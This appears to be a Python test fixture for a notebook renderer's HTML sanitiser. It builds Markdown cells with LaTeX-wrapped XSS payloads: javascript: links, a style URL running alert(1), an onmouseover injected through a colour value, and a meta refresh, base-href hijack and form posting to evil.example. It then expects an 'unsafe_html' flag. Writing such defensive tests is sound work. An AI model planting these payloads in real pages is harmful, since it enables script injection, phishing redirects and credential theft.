r"""Maths that links or styles (``\href{javascript:...}``, ``\style``, a quote in ``\color``) and
maths that moves the page (meta refresh, ``<base href>``, a ``<form>`` in ``\text``).
"""

RUN = "window.__pwned=(window.__pwned||0)+1;document.title='PWNED'"
_COLOUR = 'red" onmouseover="' + RUN


def tex(command: str, *bodies: str) -> str:
    r"""``\command{a}{b}``, braces doubled (the batch fills sources with str.format)."""
    return "\\" + command + "".join("{{" + body + "}}" for body in bodies)


EXTRA_CELLS = [
    {
        "after": "q1",
        "cell_type": "markdown",
        "source": (
            f"${tex('href', 'javascript:' + RUN, 'click')}$ "
            f"${tex('style', 'background:url(javascript:alert(1))', 'x')}$ "
            f"${tex('color', _COLOUR, 'y')}$"
        ),
    },
    {
        "after": "q2",
        "cell_type": "markdown",
        "source": (
            f"${tex('text', '<meta http-equiv=refresh content=0;url=https://evil.example/login>')}$ "
            f"${tex('text', '<base href=https://evil.example/>')}$ "
            f"${tex('text', '<form action=https://evil.example/steal><button>Save</button></form>')}$"
        ),
    },
]
EXPECT_SCORE = 3
EXPECT_FLAGS = {"unsafe_html"}
